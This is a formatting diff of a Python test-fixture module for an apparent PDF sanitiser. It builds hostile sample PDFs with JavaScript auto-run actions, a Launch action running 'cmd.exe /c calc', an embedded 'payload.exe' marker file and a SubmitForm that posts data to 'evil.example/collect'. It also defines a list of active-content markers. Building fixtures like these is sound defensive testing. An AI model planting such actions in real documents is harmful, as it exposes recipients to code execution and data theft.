@@ -25,9 +25,14 @@ A4 = (595.2756, 841.8898)
 
 # --- valid documents ---------------------------------------------------------------------------
 
-def make_pdf(sizes: Sequence[tuple[float, float]], *, rotate: Mapping[int, int] | None = None,
-             cropbox: Mapping[int, tuple[float, float, float, float]] | None = None,
-             text: str = "Countersign test page") -> bytes:
+
+def make_pdf(
+    sizes: Sequence[tuple[float, float]],
+    *,
+    rotate: Mapping[int, int] | None = None,
+    cropbox: Mapping[int, tuple[float, float, float, float]] | None = None,
+    text: str = "Countersign test page",
+) -> bytes:
     """A PDF with one page per size; `rotate`/`cropbox` are keyed by 0-based page index."""
     buf = io.BytesIO()
     c = canvas.Canvas(buf)
@@ -77,8 +82,10 @@ def zero_page_pdf() -> bytes:
 
 # --- images ------------------------------------------------------------------------------------
 
-def make_image(fmt: str, size: tuple[int, int] = (400, 300), *, mode: str = "RGB",
-               exif_orientation: int | None = None) -> bytes:
+
+def make_image(
+    fmt: str, size: tuple[int, int] = (400, 300), *, mode: str = "RGB", exif_orientation: int | None = None
+) -> bytes:
     """A small image with a dot grid, so that scaling errors would be visible in a rendering.
 
     `exif_orientation` 6 or 8 stores a photo sideways with the tag saying so, as phones do."""
@@ -125,6 +132,7 @@ def pixel_bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
 
 # --- raw PDF writing ---------------------------------------------------------------------------
 
+
 def stream(data: bytes, extra: bytes = b"") -> bytes:
     return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"
 
@@ -150,7 +158,7 @@ def _simple_page_objects(contents: bytes = b"BT /F1 12 Tf 72 720 Td (Hello) Tj E
         1: b"<< /Type /Catalog /Pages 2 0 R >>",
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
-           b"/Resources << /Font << /F1 5 0 R >> >> >>",
+        b"/Resources << /Font << /F1 5 0 R >> >> >>",
         4: stream(contents),
         5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
     }
@@ -159,8 +167,9 @@ def _simple_page_objects(contents: bytes = b"BT /F1 12 Tf 72 720 Td (Hello) Tj E
 def inherited_attributes() -> bytes:
     """MediaBox, CropBox and /Rotate set on the page tree node and inherited by the page."""
     objects = _simple_page_objects()
-    objects[2] = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] "
-                  b"/CropBox [20 30 592 762] /Rotate 90 >>")
+    objects[2] = (
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] /CropBox [20 30 592 762] /Rotate 90 >>"
+    )
     objects[3] = objects[3].replace(b"/MediaBox [0 0 612 792] ", b"")
     return raw_pdf(objects)
 
@@ -171,6 +180,7 @@ def minimal_raw_pdf() -> bytes:
 
 
 # --- hostile corpus ----------------------------------------------------------------------------
+
 
 def _zeros_deflate(total: int) -> bytes:
     """A zlib stream inflating to `total` zero bytes, built without compressing `total` bytes.
@@ -248,8 +258,10 @@ def long_xref_chain(sections: int = 1200) -> bytes:
     prev = int(bytes(out).rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
     for _ in range(sections):
         at = len(out)
-        out += (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n"
-                b"startxref\n%d\n%%%%EOF\n" % (prev, at))
+        out += (
+            b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n"
+            b"startxref\n%d\n%%%%EOF\n" % (prev, at)
+        )
         prev = at
     return bytes(out)
 
@@ -310,37 +322,45 @@ def active_content_pdf() -> bytes:
     an embedded file (name tree and a /FileAttachment annotation), an XFA form, a JavaScript
     bookmark — and one plain https link (object 15) that has to stay."""
     objects = _simple_page_objects()
-    objects[1] = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R >> "
-                  b"/Names << /JavaScript 12 0 R /EmbeddedFiles 13 0 R >> /AcroForm 20 0 R /Outlines 30 0 R >>")
-    objects[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
-                  b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 14 0 R >> "
-                  b"/Annots [15 0 R 16 0 R 17 0 R 18 0 R 19 0 R 21 0 R 22 0 R] >>")
-    objects.update({
-        10: _js(), 11: _js(), 14: _js(),
-        12: b"<< /Names [(init) 23 0 R] >>",
-        23: _js(),
-        13: b"<< /Names [(payload.exe) 24 0 R] >>",
-        24: b"<< /Type /Filespec /F (payload.exe) /EF << /F 25 0 R >> >>",
-        25: stream(PAYLOAD_MARKER, b"/Type /EmbeddedFile"),
-        15: b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (%s) >> >>"
+    objects[1] = (
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R >> "
+        b"/Names << /JavaScript 12 0 R /EmbeddedFiles 13 0 R >> /AcroForm 20 0 R /Outlines 30 0 R >>"
+    )
+    objects[3] = (
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 14 0 R >> "
+        b"/Annots [15 0 R 16 0 R 17 0 R 18 0 R 19 0 R 21 0 R 22 0 R] >>"
+    )
+    objects.update(
+        {
+            10: _js(),
+            11: _js(),
+            14: _js(),
+            12: b"<< /Names [(init) 23 0 R] >>",
+            23: _js(),
+            13: b"<< /Names [(payload.exe) 24 0 R] >>",
+            24: b"<< /Type /Filespec /F (payload.exe) /EF << /F 25 0 R >> >>",
+            25: stream(PAYLOAD_MARKER, b"/Type /EmbeddedFile"),
+            15: b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (%s) >> >>"
             % LINK_URL.encode(),
-        16: b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] "
+            16: b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] "
             b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
-        17: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 520 90 540] /FS 24 0 R >>",
-        18: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 480 300 500] /P 3 0 R "
+            17: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 520 90 540] /FS 24 0 R >>",
+            18: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 480 300 500] /P 3 0 R "
             b"/AA << /K 26 0 R /Fo 26 0 R >> >>",
-        26: _js(),
-        19: b"<< /Type /Annot /Subtype /Link /Rect [72 440 300 460] "
+            26: _js(),
+            19: b"<< /Type /Annot /Subtype /Link /Rect [72 440 300 460] "
             b"/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
-        21: b"<< /Type /Annot /Subtype /Link /Rect [72 400 300 420] "
+            21: b"<< /Type /Annot /Subtype /Link /Rect [72 400 300 420] "
             b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>",
-        22: b"<< /Type /Annot /Subtype /Link /Rect [72 360 300 380] /A << /S /URI /URI (javascript:alert(1)) >> >>",
-        20: b"<< /Fields [18 0 R] /XFA 27 0 R /NeedsRendering true >>",
-        27: stream(b"<xdp:xdp><script>" + SCRIPT_MARKER.encode() + b"</script></xdp:xdp>"),
-        30: b"<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 1 >>",
-        31: b"<< /Title (Start) /Parent 30 0 R /A 32 0 R >>",
-        32: _js(),
-    })
+            22: b"<< /Type /Annot /Subtype /Link /Rect [72 360 300 380] /A << /S /URI /URI (javascript:alert(1)) >> >>",
+            20: b"<< /Fields [18 0 R] /XFA 27 0 R /NeedsRendering true >>",
+            27: stream(b"<xdp:xdp><script>" + SCRIPT_MARKER.encode() + b"</script></xdp:xdp>"),
+            30: b"<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 1 >>",
+            31: b"<< /Title (Start) /Parent 30 0 R /A 32 0 R >>",
+            32: _js(),
+        }
+    )
     return raw_pdf(objects)
 
 
@@ -349,23 +369,43 @@ def harmless_interactive_pdf() -> bytes:
     a page-turning named action and an http link whose /Next is another link."""
     objects = _simple_page_objects()
     objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
-    objects[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
-                  b"/Resources << /Font << /F1 5 0 R >> >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R] >>")
-    objects.update({
-        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
-        11: b"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (mailto:legal@example.com) >> >>",
-        12: b"<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /Named /N /NextPage >> >>",
-        13: b"<< /Type /Annot /Subtype /Link /Rect [0 60 10 70] "
+    objects[3] = (
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R] >>"
+    )
+    objects.update(
+        {
+            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
+            11: b"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (mailto:legal@example.com) >> >>",
+            12: b"<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /Named /N /NextPage >> >>",
+            13: b"<< /Type /Annot /Subtype /Link /Rect [0 60 10 70] "
             b"/A << /S /URI /URI (http://example.com/a) /Next << /S /URI /URI (HTTPS://example.com/b) >> >> >>",
-    })
+        }
+    )
     return raw_pdf(objects)
 
 
 # Names whose presence anywhere in a PDF's object graph means active content survived.
-ACTIVE_MARKERS = frozenset({
-    "/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/EmbeddedFile", "/EF",
-    "/FileAttachment", "/XFA", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/RichMedia", "/AF",
-})
+ACTIVE_MARKERS = frozenset(
+    {
+        "/JavaScript",
+        "/JS",
+        "/OpenAction",
+        "/AA",
+        "/Launch",
+        "/EmbeddedFiles",
+        "/EmbeddedFile",
+        "/EF",
+        "/FileAttachment",
+        "/XFA",
+        "/SubmitForm",
+        "/ImportData",
+        "/GoToR",
+        "/GoToE",
+        "/RichMedia",
+        "/AF",
+    }
+)
 
 
 def active_markers(data: bytes) -> set[str]:
